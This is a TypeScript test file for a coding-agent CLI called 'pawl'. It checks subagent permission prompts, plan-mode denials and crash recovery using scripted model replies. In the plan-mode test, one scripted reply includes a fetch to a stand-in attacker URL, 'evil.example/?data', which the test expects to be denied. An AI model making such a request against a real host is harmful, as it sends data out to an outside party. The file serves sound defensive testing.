/** The `task` tool of the real `pawl`: a session of its own, its questions, its crash. */
import assert from "node:assert/strict";
import { execFileSync, spawn, spawnSync } from "node:child_process";
import { join } from "node:path";
import { test } from "node:test";
import { lastLine, World } from "./pawl-world.ts";
import { appears, waiting } from "./supervisor-world.ts";

const noScript = spawnSync("script", ["--version"]).status === 0 ? false : "there is no script(1) here";
const giving = [{ call: "task", input: { agent: "general", prompt: "Make it." } }];

async function childOf(world: World): Promise<string> {
  const { stdout } = await world.pawl(["sessions", "--json", "--tasks", "--store", world.store]);
  const ids = stdout
    .trimEnd()
    .split("\n")
    .map((line) => (JSON.parse(line) as { session: string }).session);
  const children = ids.filter((id) => id.startsWith("task_"));
  assert.equal(children.length, 1);
  return children[0] ?? "";
}

test("R73: a task's question is asked at the parent's terminal, what it did is told, and its words are the result", {
  skip: noScript,
}, async (t) => {
  const world = new World(t);
  const server = await world.server([
    giving,
    [{ call: "bash", input: { command: "echo hi > made.txt" } }],
    [{ text: "It is made." }],
    [{ text: "All done." }],
  ]);
  // The task itself needs no yes: each of its calls does.
  const { code, stdout } = await world.inTerminal("y\n", ["run", "Go", "--session", "s", ...world.place(server)]);
  assert.equal(code, 0, stdout);
  assert.match(stdout, /↳ general: asks whether it may: bash echo hi > made\.txt\n.*Allow this\? .*↳ general: ✓ bash/s);
  assert.match(stdout, /All done\./);
  assert.equal(world.read("made.txt"), "hi\n");
  assert.match(server.requests.at(-1)?.body ?? "", /It is made\./);
  const child = await childOf(world);
  for (const session of ["s", child]) assert.equal((await world.verified(session)).code, 0);
  assert.doesNotMatch((await world.pawl(["sessions", "--store", world.store])).stdout, /task_/);
  assert.match((await world.pawl(["show", child, "--store", world.store])).stdout, /session in .*, a task of s, /);
});

test("what is asked says what is meant: a command in the background, an always for this task alone", {
  skip: noScript,
}, async (t) => {
  const world = new World(t);
  const server = await world.server([
    [...giving, { call: "bash", input: { command: "npm test", background: true } }],
    [{ call: "bash", input: { command: "git log", background: true } }],
    [{ text: "It is made." }],
    [{ text: "All done." }],
  ]);
  const { code, stdout } = await world.inTerminal("n\nn\n", ["run", "Go", "--session", "s", ...world.place(server)]);
  assert.equal(code, 0, stdout);
  assert.match(stdout, /│ npm test\n {2}in the background.*\n.*\[a\]lways \(npm test \*\)/);
  assert.match(stdout, /│ git log\n {2}in the background.*\n.*\[a\]lways in this task \(git log \*\)/);
});

test("in plan mode a task changes nothing either, whatever it is given to do with", async (t) => {
  const world = new World(t);
  world.configure({ permissions: [{ tool: "bash", say: "allow" }] });
  const server = await world.server([
    [...giving, { call: "job_kill", input: { id: "job-12345678" } }],
    [
      { call: "bash", input: { command: "touch made.txt" } },
      { call: "bash", input: { command: "touch made.txt", background: true } },
      { call: "write", input: { path: "made.txt", content: "x" } },
      { call: "fetch", input: { url: "http://evil.example/?data" } },
      { call: "ls", input: {} },
    ],
    [{ text: "Nothing made." }],
    [{ text: "Planned." }],
  ]);
  const { code, stderr } = await world.pawl(["run", "Go", "--session", "s", "--mode", "plan", ...world.place(server)]);
  assert.equal(code, 0, stderr);
  assert.throws(() => world.read("made.txt"));
  const told = server.requests[2]?.body ?? "";
  assert.equal(told.split("this is plan mode: only tools that read may run").length - 1, 3);
  assert.match(told, /TOOL_DENIED: this call needs a person's approval, and nobody is there/);
  assert.match(server.requests.at(-1)?.body ?? "", /this is plan mode/);
  for (const session of ["s", await childOf(world)]) assert.equal((await world.verified(session)).code, 0);
});

test("R73: with nobody to ask, a task that looks around runs, and what would change something is refused in it", async (t) => {
  const world = new World(t);
  const server = await world.server([
    [{ call: "task", input: { agent: "explore", prompt: "Look." } }],
    [
      { call: "ls", input: {} },
      { call: "bash", input: { command: "touch made.txt" } },
    ],
    [{ text: "Empty." }],
    [{ text: "Done." }],
  ]);
  const { code, stderr } = await world.pawl(["run", "Go", "--session", "s", "--yes", ...world.place(server)]);
  assert.equal(code, 0, stderr);
  assert.throws(() => world.read("made.txt"));
  assert.match(server.requests[2]?.body ?? "", /TOOL_UNKNOWN/);
});

test("R61: killed in a command of a task: the command's real output is found, it ran once, and the task goes on", async (t) => {
  const world = new World(t);
  execFileSync("mkfifo", [join(world.work, "pipe")]);
  const server = await world.server([
    giving,
    [{ call: "bash", input: { command: waiting } }],
    [{ text: "It is made." }],
    [{ text: "All done." }],
  ]);
  const place = world.place(server);
  const first = world.start(["run", "Go", "--yes", "--session", "s", "--json", ...place]);
  await appears(world.work, "ready", first.ended);
  first.kill("SIGKILL");
  await first.ended;
  const resumed = world.pawl(["resume", "s", "--yes", "--json", ...place]);
  const writer = spawn("/bin/sh", ["-c", "echo word > pipe"], { cwd: world.work, stdio: "ignore" });
  t.after(() => writer.kill("SIGKILL"));
  const { code, stdout, stderr } = await resumed;
  assert.equal(code, 0, stderr);
  assert.equal(lastLine(stdout).text, "All done.");
  assert.equal(world.read("count"), "ran\n");
  assert.match(server.requests[2]?.body ?? "", /after word/);
  assert.equal(server.requests.length, 4);
  for (const session of ["s", await childOf(world)]) assert.equal((await world.verified(session)).code, 0);
});

test("R61: a turn that is settled closes the task that was under way in it, and nothing of it runs", async (t) => {
  const world = new World(t);
  execFileSync("mkfifo", [join(world.work, "pipe")]);
  const server = await world.server([giving, [{ call: "bash", input: { command: waiting } }]]);
  const first = world.start(["run", "Go", "--yes", "--session", "s", "--json", ...world.place(server)]);
  await appears(world.work, "ready", first.ended);
  first.kill("SIGKILL");
  await first.ended;
  const settled = world.pawl(["settle", "s", "--json", "--store", world.store]);
  const writer = spawn("/bin/sh", ["-c", "echo word > pipe"], { cwd: world.work, stdio: "ignore" });
  t.after(() => writer.kill("SIGKILL"));
  const { code, stdout, stderr } = await settled;
  assert.equal(code, 0, stderr);
  assert.equal((JSON.parse(stdout) as { outcome: { type: string } }).outcome.type, "interrupted");
  const child = await childOf(world);
  for (const session of ["s", child]) assert.equal((await world.verified(session)).code, 0);
  const { stdout: list } = await world.pawl(["sessions", "--json", "--tasks", "--store", world.store]);
  for (const line of list.trimEnd().split("\n"))
    assert.equal((JSON.parse(line) as { head: { openTurn?: string } }).head.openTurn, undefined, line);
  const { stdout: log } = await world.pawl(["show", "s", "--json", "--store", world.store]);
  assert.match(log, /The task did not complete: it ended as interrupted/);
  assert.match((await world.pawl(["show", child, "--json", "--store", world.store])).stdout, /after word/);
  assert.equal(world.read("count"), "ran\n");
  assert.equal(server.requests.length, 2);
});
